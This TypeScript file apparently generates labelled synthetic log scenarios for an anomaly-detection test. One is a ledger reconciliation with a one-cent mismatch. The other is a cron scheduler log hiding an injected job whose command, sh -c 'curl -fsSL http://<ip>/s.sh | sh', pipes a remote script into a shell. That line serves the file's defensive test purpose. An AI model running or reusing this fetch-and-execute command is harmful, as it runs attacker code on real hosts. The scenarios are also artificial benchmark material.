// Batch work that is mostly quiet: a nightly ledger reconciliation where two lines matter, and a
// cron scheduler whose long routine lines and routine failures hide a job someone slipped in.

import type { Scenario } from "../blind/types.js";
import { baseTime, Gen, Incident, iso, isoNano, type Label, MIN, SEC } from "./kit.js";

/** A Micronaut reconciliation run: thousands of matched chunks, one cent off on one account, one unknown currency. */
export function ledgerReconciliationQuiet(seed: number): Scenario {
  const g = new Gen(seed, "ledger-reconciliation-quiet");
  const inc = new Incident();
  const start = baseTime(seed, 2);
  const end = start + 80 * MIN;
  const chunks = 1400 + g.int(0, 300);

  const lb = (t: number, level: string, logger: string, message: string, extra: Record<string, unknown> = {}, label: Label = null) => {
    inc.add(
      t,
      {
        "@timestamp": iso(t),
        "@version": "1",
        message,
        logger_name: logger,
        thread_name: g.pick(["recon-worker-1", "recon-worker-2", "recon-worker-3", "recon-worker-4"]),
        level,
        level_value: level === "ERROR" ? 40000 : level === "WARN" ? 30000 : level === "DEBUG" ? 10000 : 20000,
        app: "ledger-recon",
        run_id: `recon-${new Date(start).toISOString().slice(0, 10)}`,
        ...extra,
      },
      label,
    );
  };

  lb(start, "INFO", "io.micronaut.runtime.Micronaut", `Startup completed in ${g.int(900, 1600)}ms. Server Running: http://ledger-recon-${g.hex(5)}:8080`);
  lb(
    start + 2 * SEC,
    "INFO",
    "com.acme.recon.ReconJob",
    `Reconciliation started for business date ${new Date(start - 86_400_000).toISOString().slice(0, 10)}: ${chunks} chunks, statement files [camt053_DE_${g.int(100, 999)}.xml, camt053_NL_${g.int(100, 999)}.xml, camt053_FR_${g.int(100, 999)}.xml]`,
  );
  const times = g.times(start + 5 * SEC, end - 10 * SEC, chunks);
  const badChunk = g.int(Math.floor(chunks * 0.3), Math.floor(chunks * 0.8));
  const oddChunk = g.int(Math.floor(chunks * 0.1), Math.floor(chunks * 0.9));
  times.forEach((t, i) => {
    const accounts = g.int(180, 250);
    const d = Math.round(g.logNormal(310, 0.35));
    lb(t, "DEBUG", "com.zaxxer.hikari.pool.HikariPool", `ledgerPool - Pool stats (total=10, active=${g.int(1, 4)}, idle=${g.int(6, 9)}, waiting=0)`);
    if (g.chance(0.04))
      lb(
        t + 5,
        "WARN",
        "com.acme.recon.HoldsChecker",
        `Account DE${g.int(10, 99)}${g.int(1e9, 9e9)}: ${g.int(1, 3)} authorisation hold(s) older than 7 days, left for the holds sweeper`,
      );
    if (i === oddChunk)
      lb(
        t + 8,
        "WARN",
        "com.acme.recon.StatementParser",
        `Unknown currency code 'XBT' on statement line ${g.int(100, 9000)} of camt053_NL; line ignored`,
        {},
        "pattern",
      );
    if (i === badChunk) {
      const acct = `NL${g.int(10, 99)}ACME0${g.int(1e8, 9e8)}`;
      lb(
        t + 9,
        "ERROR",
        "com.acme.recon.Matcher",
        `Balance mismatch on ${acct}: ledger 18 234.57 EUR, bank 18 234.56 EUR, delta -0.01 EUR (entries 412 vs 412)`,
        { account: acct, delta_minor: -1 },
        "error",
      );
      lb(t + 10, "INFO", "com.acme.recon.ReconJob", `Chunk ${i + 1}/${chunks} reconciled: ${accounts} accounts, 1 mismatch in ${d} ms`, { duration_ms: d });
      return;
    }
    lb(t + 10, "INFO", "com.acme.recon.ReconJob", `Chunk ${i + 1}/${chunks} reconciled: ${accounts} accounts, 0 mismatches in ${d} ms`, { duration_ms: d });
  });
  lb(end - 5 * SEC, "INFO", "com.acme.recon.ReconJob", "Reconciliation finished: 1 mismatch, report written to s3://recon-reports/daily/", {
    duration_ms: end - start - 10 * SEC,
  });

  return inc.build(
    "ledger-reconciliation-quiet",
    "A nightly ledger reconciliation where thousands of chunks match and only one cent on one account and one unknown currency stand out",
  );
}

/**
 * A Go cron scheduler (slog JSON): every minute it prints a long state line, some jobs routinely
 * skip or fail to renew their lease; partway through, a job nobody defined appears with a shell
 * pipe from a public address, and the scheduler logs a config reload from an unusual path.
 */
export function cronInjectedJob(seed: number): Scenario {
  const g = new Gen(seed, "cron-injected-job");
  const inc = new Incident();
  const start = baseTime(seed, 21);
  const end = start + 110 * MIN;
  const inject = start + (45 + g.int(0, 30)) * MIN;
  const evilIp = `${g.int(45, 95)}.${g.int(10, 250)}.${g.int(0, 255)}.${g.int(2, 254)}`;
  const jobs = [
    ["purge-expired-sessions", "*/5 * * * *", 900],
    ["rotate-signing-keys", "0 * * * *", 2400],
    ["export-daily-report", "*/10 * * * *", 42_000],
    ["refresh-exchange-rates", "*/2 * * * *", 600],
    ["reindex-catalog-delta", "*/3 * * * *", 8000],
    ["send-abandoned-cart-mails", "*/15 * * * *", 5000],
  ] as const;

  const slog = (t: number, level: string, msg: string, attrs: Record<string, unknown> = {}, label: Label = null) => {
    inc.add(t, { time: isoNano(t, g), level, msg, service: "cron-scheduler", ...attrs }, label);
  };

  // The state line every minute: long, odd-looking, routine.
  for (const t of g.every(start, end, MIN, 200)) {
    const state = jobs
      .map(
        ([name, spec]) => `${name}@${spec};next=${iso(t + g.int(1, 15) * MIN).slice(11, 19)};last=${g.chance(0.96) ? "ok" : "skipped"};runs=${g.int(10, 900)}`,
      )
      .join("|");
    slog(t, "INFO", "scheduler state", { leader: "cron-scheduler-0", jobs: jobs.length, state, etcd_rev: g.int(1e6, 2e6) });
  }

  // Job runs by their schedules.
  for (const [name, spec, median] of jobs) {
    const every = Number(spec.match(/\*\/(\d+)/)?.[1] ?? 60) * MIN;
    for (let t = start + g.int(0, every); t < end; t += every) {
      const runId = g.hex(8);
      const lag = g.int(5, 900);
      if (name === "export-daily-report" && g.chance(0.35)) {
        slog(t + lag, "WARN", "job skipped: previous run still active", { job: name, run_id: runId, active_for_ms: g.int(600_000, 700_000) });
        continue;
      }
      slog(t + lag, "INFO", "job started", { job: name, run_id: runId, schedule: spec });
      const d = Math.round(g.logNormal(median, 0.4));
      if (g.chance(0.06))
        slog(t + lag + Math.floor(d / 2), "ERROR", "lease renew failed, retrying", {
          job: name,
          run_id: runId,
          err: "etcdserver: request timed out, possibly due to connection lost",
        });
      slog(t + lag + d, "INFO", "job finished", { job: name, run_id: runId, duration_ms: d, status: "ok" });
    }
  }
  // Runs emit their own progress lines; many templates, like any busy scheduler.
  for (const t of g.times(start, end, 2000)) {
    const [msg, attrs] = g.weighted([
      [["sessions purged", { job: "purge-expired-sessions", deleted: g.int(0, 4000), table: "sessions" }], 20],
      [["rates refreshed", { job: "refresh-exchange-rates", pairs: 168, source: "ecb", stale_pairs: 0 }], 25],
      [["catalog delta indexed", { job: "reindex-catalog-delta", docs: g.int(0, 900), index: "products-v41" }], 25],
      [["cart mail batch queued", { job: "send-abandoned-cart-mails", recipients: g.int(0, 600) }], 10],
      [["http request", { method: "GET", path: g.pick(["/healthz", "/metrics", "/readyz"]), status: 200, latency_ms: Math.round(g.logNormal(1.5, 0.4)) }], 20],
    ] as const);
    slog(t, "INFO", msg, attrs);
  }

  // The intrusion: a reload from a temp path, a new job, its runs piping a script from the internet.
  slog(
    inject,
    "INFO",
    "job definitions reloaded",
    { source: "/tmp/.cache/jobs.yaml", added: 1, removed: 0, actor: "unknown", leader: "cron-scheduler-0" },
    "pattern",
  );
  slog(
    inject + 200,
    "INFO",
    "job registered",
    { job: "sys-health-sync", schedule: "*/1 * * * *", command: `sh -c 'curl -fsSL http://${evilIp}/s.sh | sh'` },
    "pattern",
  );
  for (let t = inject + MIN; t < end; t += MIN + g.int(0, 2) * SEC) {
    if (g.chance(0.5)) slog(t, "INFO", "job started", { job: "sys-health-sync", run_id: g.hex(8), schedule: "*/1 * * * *" }, "pattern");
  }
  slog(inject + 3 * MIN, "WARN", "outbound connection to unlisted host", { job: "sys-health-sync", dst: `${evilIp}:80`, policy: "egress-audit" }, "pattern");

  return inc.build(
    "cron-injected-job",
    "A cron scheduler's long state lines and routine skips and lease errors hide a job injected from a temp path that pipes a script from the internet",
  );
}
